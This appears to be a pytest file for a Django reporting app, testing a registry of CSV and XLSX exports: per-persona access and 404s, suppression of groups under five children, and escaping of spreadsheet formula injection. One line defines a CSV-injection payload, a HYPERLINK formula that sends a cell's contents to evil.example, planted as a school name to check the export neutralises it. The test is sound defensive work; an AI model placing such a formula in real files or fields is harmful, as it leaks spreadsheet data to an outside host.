"""The registry of exports: every registered export downloads for exactly the people it lists,
404s for everyone else, writes inert files and shows no group of fewer than 5 children."""

from __future__ import annotations

import csv
import io
from typing import Any, ClassVar

import pytest
from django.test import RequestFactory
from django.urls import reverse
from openpyxl import load_workbook

from horizons.encounters import services
from horizons.encounters.services import ClassSpec
from horizons.reports import suppression, tabular
from horizons.reports.registry import (
    CONTENT_TYPES,
    Export,
    Format,
    Registry,
    Scope,
    registry,
)
from tests.benchmarks.matrix import submitted
from tests.conftest import PERSONAS
from tests.encounters import factories as f
from tests.encounters.matrix import things

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def test_the_existing_exports_are_registered_once_each() -> None:
    assert [e.identifier for e in registry] == [
        "benchmark-audit",
        "campaign-reach",
        "hub-reach",
        "national-overview",
    ]
    for export in registry:
        assert export.verbose_name and export.scope in Scope
        assert set(export.url_names) == set(export.formats), export.identifier


@pytest.mark.django_db
def test_every_export_downloads_for_the_people_it_lists_and_404s_for_everyone_else(
    world: Any, client_for: Any
) -> None:
    things(world)
    submitted(world)
    offered: dict[str, dict[str, set[str]]] = {}  # export -> url -> personas offered it
    for persona in PERSONAS:
        user = world.persona(persona)
        if user is None:
            continue
        for export in registry:
            for link in export.links(user):
                for fmt, url in link.urls.items():
                    offered.setdefault(export.identifier, {}).setdefault(url, set()).add(persona)
                    response = client_for(persona).get(url)
                    assert response.status_code == 200, (persona, url)
                    assert response["Content-Type"] == CONTENT_TYPES[fmt]
                    disposition = response["Content-Disposition"]
                    assert disposition.startswith('attachment; filename="')
                    assert disposition.endswith(f'.{fmt}"')
                    assert response.content
    assert set(offered) == {e.identifier for e in registry}, "an export nobody can run"
    for identifier, urls in offered.items():
        for url, allowed in urls.items():
            for persona in set(PERSONAS) - allowed:
                response = client_for(persona).get(url)
                if persona == "anonymous":
                    assert (
                        response.status_code == 302 and "/accounts/login/" in response["Location"]
                    )
                else:
                    assert response.status_code == 404, (identifier, persona, url)


@pytest.mark.django_db
def test_who_is_offered_what(world: Any) -> None:
    things(world)
    submitted(world)

    def offered(persona: str) -> set[str]:
        return {export.identifier for export, _ in registry.available_to(world.persona(persona))}

    assert offered("admin") == {
        "benchmark-audit",
        "campaign-reach",
        "hub-reach",
        "national-overview",
    }
    assert offered("facilitator") == {"benchmark-audit", "campaign-reach", "hub-reach"}
    assert offered("lead") == offered("teacher") == {"benchmark-audit"}
    assert offered("volunteer") == offered("coordinator") == set()
    assert offered("national") == {"national-overview"}


@pytest.fixture
def small_campaign(world: Any) -> Any:
    """A campaign where a class of 3 children came from a school named like a formula, and a
    class of 26 from another school."""
    world.school.name = ATTACK
    world.school.save(update_fields=["name"])
    campaign = f.campaign(world)
    day = campaign.starts_on.replace(day=campaign.starts_on.day + 1)
    event = f.event(world, campaign=campaign, day=day, year_groups=(4, 5, 6), capacity=90)
    for school, name, children in [
        (world.school, "Year 5 Oak", 3),
        (world.other_school, "Year 6 Elm", 26),
    ]:
        booking = services.booking_create(
            event=event, school=school, classes=[ClassSpec(name, 5, children)], by=world.lead
        )
        klass = booking.classes.get()
        services.attendance_record(
            booking=booking, by=world.lead, attended={klass.pk: children}, today=day
        )
    return campaign


@pytest.mark.django_db
def test_campaign_reach_is_inert_and_suppressed_in_both_formats(
    small_campaign: Any, client_for: Any
) -> None:
    client = client_for("facilitator")
    text = client.get(
        reverse("encounters:campaign_reach_csv", args=[small_campaign.pk])
    ).content.decode()
    lines = list(csv.reader(io.StringIO(text)))
    schools = {line[1]: line for line in lines if len(line) == 7 and line[0].isdigit()}
    assert schools["'" + ATTACK][3] == suppression.fewer_than(5)
    assert schools["Dunston Primary School"][3] == "26"

    book = load_workbook(
        io.BytesIO(
            client.get(reverse("encounters:campaign_reach_xlsx", args=[small_campaign.pk])).content
        )
    )
    rows = {r[1]: r for r in book["Schools"].iter_rows(min_row=2, values_only=True)}
    assert rows["'" + ATTACK][3] == "fewer than 5"
    assert rows["Dunston Primary School"][3] == 26
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f"


@pytest.mark.django_db
def test_the_view_and_the_registry_write_the_same_file(
    small_campaign: Any, world: Any, client_for: Any
) -> None:
    request = RequestFactory().get("/")
    request.user = world.facilitator
    export = registry.get("campaign-reach")
    for fmt in export.formats:
        download = export.run(request, fmt, small_campaign.pk)
        response = client_for("facilitator").get(
            reverse(export.url_names[fmt], args=[small_campaign.pk])
        )
        body = download.body.encode() if isinstance(download.body, str) else download.body
        if fmt is Format.CSV:
            assert response.content == body
        else:  # XLSX carries its creation time: compare what the sheets hold

            def cells(data: bytes) -> list[list[Any]]:
                book = load_workbook(io.BytesIO(data))
                return [list(r) for s in book.worksheets for r in s.iter_rows(values_only=True)]

            assert cells(response.content) == cells(body)
        assert response["Content-Disposition"] == f'attachment; filename="{download.filename}"'


# --- A new report is one class -----------------------------------------------------------------


class _Children(Export):
    identifier = "children-by-class"
    verbose_name = "Children by class"
    scope = Scope.SCHOOL
    url_names: ClassVar = {}

    def may_run(self, user: Any) -> bool:
        return True

    def target(self, request: Any, pk: int | None = None) -> str:
        return "Oak"

    def tables(self, request: Any, target: str) -> list[tabular.Table]:
        rows = [
            ["-Oak", suppression.display_count(3, 5)],
            ["Elm", suppression.display_count(12, 5)],
        ]
        return [tabular.Table("Children", ["Class", "Children"], rows)]

    def filename(self, request: Any, target: str) -> str:
        return "children"


def test_a_new_report_is_one_class_and_its_files_are_inert() -> None:
    mine = Registry()
    mine.register(_Children)
    export = mine.get("children-by-class")
    download = export.run(RequestFactory().get("/"), Format.CSV)
    assert download.filename == "children.csv"
    assert download.body == "Children\nClass,Children\n'-Oak,fewer than 5\nElm,12\n"
    xlsx = export.run(RequestFactory().get("/"), Format.XLSX)
    assert xlsx.content_type == CONTENT_TYPES[Format.XLSX]
    sheet = load_workbook(io.BytesIO(xlsx.body)).active  # type: ignore[arg-type]
    assert sheet is not None and sheet["A2"].value == "'-Oak"


def test_the_registry_refuses_two_exports_with_one_name_and_unknown_formats() -> None:
    mine = Registry()
    mine.register(_Children)

    class Again(_Children):
        pass

    with pytest.raises(ValueError, match="Two exports"):
        mine.register(Again)

    class Pdf(_Children):
        identifier = "as-pdf"
        formats = ("pdf",)  # type: ignore[assignment]

    with pytest.raises(ValueError, match="unknown format"):
        mine.register(Pdf)


def test_an_export_writes_only_the_formats_it_declares() -> None:
    class CsvOnly(_Children):
        formats = (Format.CSV,)

    with pytest.raises(ValueError, match="does not write xlsx"):
        CsvOnly().run(RequestFactory().get("/"), Format.XLSX)
    with pytest.raises(ValueError, match="does not write xlsx"):
        CsvOnly().run(RequestFactory().get("/"), "xlsx")
    assert CsvOnly().run(RequestFactory().get("/"), "csv").filename == "children.csv"
    with pytest.raises(ValueError):
        CsvOnly().run(RequestFactory().get("/"), "pdf")
